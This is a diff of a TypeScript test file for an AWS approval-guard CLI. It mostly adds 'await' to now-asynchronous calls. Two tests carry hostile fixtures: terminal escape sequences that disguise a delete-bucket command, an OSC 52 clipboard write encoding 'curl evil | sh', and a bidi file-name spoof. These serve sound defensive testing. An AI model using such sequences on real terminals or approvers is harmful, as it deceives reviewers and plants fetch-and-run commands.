@@ -51,7 +51,7 @@ function open(requester = alice, bucket = `b-${Math.random().toString(36).slice(
 
 describe('guard-aws approvals', () => {
   it('list --json shows an approver what they can decide', async () => {
-    const a = open();
+    const a = await open();
     const r = await cli('bob', ['list', '--decide', '--json']);
     expect(r.code).toBe(0);
     const list = JSON.parse(r.out) as { id: string; canDecide: boolean }[];
@@ -63,7 +63,7 @@ describe('guard-aws approvals', () => {
   });
 
   it('show: the full parsed call, risks, rule, requester, reason, approvals so far and expiry', async () => {
-    const a = open();
+    const a = await open();
     const r = await cli('bob', ['show', a.id]);
     expect(r.code).toBe(0);
     for (const line of [
@@ -85,7 +85,7 @@ describe('guard-aws approvals', () => {
   });
 
   it('approve: refused for the requester (77) and outsiders (77); an approver approves with a comment', async () => {
-    const a = open();
+    const a = await open();
     const self = await cli('alice', ['approve', a.id, '--comment', 'mine']);
     expect(self.code).toBe(77);
     expect(self.stderr).toHaveLength(1);
@@ -95,13 +95,13 @@ describe('guard-aws approvals', () => {
     expect(outsider.err).toMatch(/only members of approvers/);
     const ok = await cli('bob', ['approve', a.id, '--comment', 'checked the backup']);
     expect(ok.code).toBe(0);
-    expect(ok.out).toBe(`${a.id}: approved; alice may now run it once (until ${srv.service.get(a.id)!.expiresAt})`);
+    expect(ok.out).toBe(`${a.id}: approved; alice may now run it once (until ${(await srv.service.get(a.id))!.expiresAt})`);
     const shown = await cli('alice', ['show', a.id]);
     expect(shown.out).toMatch(/approved by bob at \S+: checked the backup/);
   });
 
   it('deny: final, with the comment shown to the requester', async () => {
-    const a = open();
+    const a = await open();
     const d = await cli('carol', ['deny', a.id, '--comment', 'use the staging account']);
     expect(d.code).toBe(0);
     expect(d.out).toBe(`${a.id}: denied`);
@@ -113,28 +113,28 @@ describe('guard-aws approvals', () => {
   });
 
   it('withdraw: only the requester', async () => {
-    const a = open(dave);
+    const a = await open(dave);
     expect((await cli('bob', ['withdraw', a.id])).code).toBe(77);
     const w = await cli('dave', ['withdraw', a.id]);
     expect(w.code).toBe(0);
-    expect(srv.service.get(a.id)!.status).toBe('withdrawn');
+    expect((await srv.service.get(a.id))!.status).toBe('withdrawn');
   });
 
   it('on a terminal, shows the request and asks before deciding', async () => {
-    const a = open();
+    const a = await open();
     const no = await cli('bob', ['approve', a.id], { interactive: true, answer: 'n' });
     expect(no.prompts).toEqual([`Approve ${a.id}? [y/N] `]);
     expect(no.err).toContain('Command     aws s3api delete-bucket');
     expect(no.err).toContain('Nothing was decided.');
-    expect(srv.service.get(a.id)!.status).toBe('pending');
+    expect((await srv.service.get(a.id))!.status).toBe('pending');
     const yes = await cli('bob', ['approve', a.id], { interactive: true, answer: 'y' });
     expect(yes.code).toBe(0);
-    expect(srv.service.get(a.id)!.status).toBe('approved');
+    expect((await srv.service.get(a.id))!.status).toBe('approved');
   });
 
   it('terminal escape sequences in a request cannot disguise the command shown to an approver', async () => {
     const argv = ['s3api', 'delete-bucket', '--bucket', 'prod-data\u001b[2K\rs3api list-buckets'];
-    const a = open(alice, 'x', { argv, canonicalArgv: argv });
+    const a = await open(alice, 'x', { argv, canonicalArgv: argv });
     const r = await cli('bob', ['show', a.id]);
     expect(r.out).not.toContain('\u001b');
     expect(r.out).not.toContain('\r');
@@ -144,7 +144,7 @@ describe('guard-aws approvals', () => {
   it('clear-screen, OSC 52 clipboard writes and bidi overrides in argv, reason and comments are shown inert', async () => {
     const attack = '\x1b[2J\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\u202egnp.exe';
     const argv = ['s3api', 'delete-bucket', '--bucket', `b${attack}`];
-    const a = srv.service.open({ requester: alice, invocation: deleteBucket('b', { argv, canonicalArgv: argv }), target: 'prod', decision: approveDecision(), reason: `why ${attack}` });
+    const a = await srv.service.open({ requester: alice, invocation: deleteBucket('b', { argv, canonicalArgv: argv }), target: 'prod', decision: approveDecision(), reason: `why ${attack}` });
     for (const args of [['show', a.id], ['list']]) {
       const r = await cli('bob', args);
       expect(r.code).toBe(0);
